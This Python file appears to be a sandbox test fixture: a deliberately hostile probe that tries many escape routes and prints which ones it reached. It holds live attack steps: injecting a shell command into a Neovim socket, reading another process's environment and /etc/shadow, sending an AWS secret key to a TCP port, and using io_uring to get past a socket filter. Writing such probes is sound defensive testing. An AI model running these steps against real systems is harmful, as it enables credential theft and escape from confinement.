"""A hostile program, as an agent's shell command or a cloned repository's
test file would be: it tries every door out of its confinement and prints,
as JSON, what it reached. The test that launches it says where the doors
are (argv[1], JSON): a Unix socket's path (Neovim's server stands for
it), an abstract socket's name, a process whose environment holds a
secret, a file in /dev/shm, a TCP port on 127.0.0.1, a port it is allowed
to reach, a pseudo-terminal of the user's."""

import json
import os
import socket
import sys

doors = json.loads(sys.argv[1])
reached = {}


def attempt(name, fn):
    try:
        reached[name] = fn()
    except Exception as e:  # a refusal is what we hope for
        reached[name] = False
        reached[name + "_error"] = f"{type(e).__name__}: {e}"


def unix_socket():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(doors["unix"])
    s.sendall(b"nvim_command('silent !id')\n")
    return True


def unix_by_proc():
    # The way the attack found Neovim's server: its listening path.
    with open("/proc/net/unix") as f:
        return doors["unix"] in f.read()


def abstract_socket():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + doors["abstract"])
    s.sendall(b"hello")
    return True


def datagram_pair_redirected():
    a, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.connect(doors["unix_dgram"])
    a.send(b"spoofed")
    return True


def environ():
    with open(f"/proc/{doors['pid']}/environ", "rb") as f:
        return b"SECRET_FOR_TEST" in f.read()


def cmdline():
    with open(f"/proc/{doors['pid']}/cmdline", "rb") as f:
        return b"sleep" in f.read()


def sees_the_process():
    return os.path.exists(f"/proc/{doors['pid']}")


def signal_it():
    os.kill(doors["pid"], 0)
    return True


def shm():
    with open(doors["shm"]) as f:
        return "shm-secret" in f.read()


def shm_plant():
    with open(doors["planted"], "w") as f:
        f.write("x")
    return os.path.exists(doors["shm"])  # the planted file sits beside the user's?


def tcp_outside():
    s = socket.create_connection(("127.0.0.1", doors["tcp"]), timeout=2)
    s.sendall(b"AWS_SECRET_ACCESS_KEY=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())
    return True


def tcp_allowed():
    s = socket.create_connection(("127.0.0.1", doors["allowed"]), timeout=2)
    s.sendall(b"ok")
    return True


def named():
    # Its configuration names this host: it resolves inside, to a door.
    addr = socket.gethostbyname(doors["named"])
    s = socket.create_connection((addr, 443), timeout=2)
    s.sendall(b"hello")
    s.close()
    return addr


def own_loopback():
    # A test that serves on 127.0.0.1 and talks to itself.
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    c = socket.create_connection(srv.getsockname(), timeout=2)
    conn, _ = srv.accept()
    c.sendall(b"ping")
    return conn.recv(4) == b"ping"


def pty_of_user():
    fd = os.open(doors["pty"], os.O_RDWR | os.O_NOCTTY)
    os.close(fd)
    return True


def own_pty():
    import pty

    m, s = pty.openpty()
    os.close(m)
    os.close(s)
    return True


def tty():
    fd = os.open("/dev/tty", os.O_RDWR)
    os.close(fd)
    return True


def io_uring():
    # io_uring_setup(1, params): a ring makes sockets past the filter.
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    nr = {"x86_64": 425, "aarch64": 425}.get(os.uname().machine, 425)
    fd = libc.syscall(nr, 1, params)
    if fd >= 0:
        os.close(fd)
        return True
    raise OSError(ctypes.get_errno(), "io_uring_setup refused")


def inherited_socket():
    # A descriptor of the core's left open across exec.
    import stat

    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and stat.S_ISSOCK(os.fstat(fd).st_mode):
                return True
        except OSError:
            pass
    return False


def shadow():
    # The system's password hashes (readable to root outside): any byte.
    with open("/etc/shadow", "rb") as f:
        return len(f.read(64)) > 0


def own_proc():
    with open("/proc/self/status") as f:
        return "Pid:" in f.read()


attempt("unix", unix_socket)
attempt("unix_by_proc", unix_by_proc)
attempt("abstract", abstract_socket)
attempt("unix_dgram", datagram_pair_redirected)
attempt("environ", environ)
attempt("cmdline", cmdline)
attempt("sees_process", sees_the_process)
attempt("signal", signal_it)
attempt("shm", shm)
attempt("shm_plant", shm_plant)
attempt("tcp_outside", tcp_outside)
attempt("tcp_allowed", tcp_allowed)
attempt("named", named)
attempt("own_loopback", own_loopback)
if "pty" in doors:
    attempt("pty", pty_of_user)
attempt("own_pty", own_pty)
attempt("tty", tty)
attempt("own_proc", own_proc)
attempt("io_uring", io_uring)
attempt("inherited", inherited_socket)
attempt("shadow", shadow)
reached["env"] = sorted(os.environ)
print(json.dumps(reached))
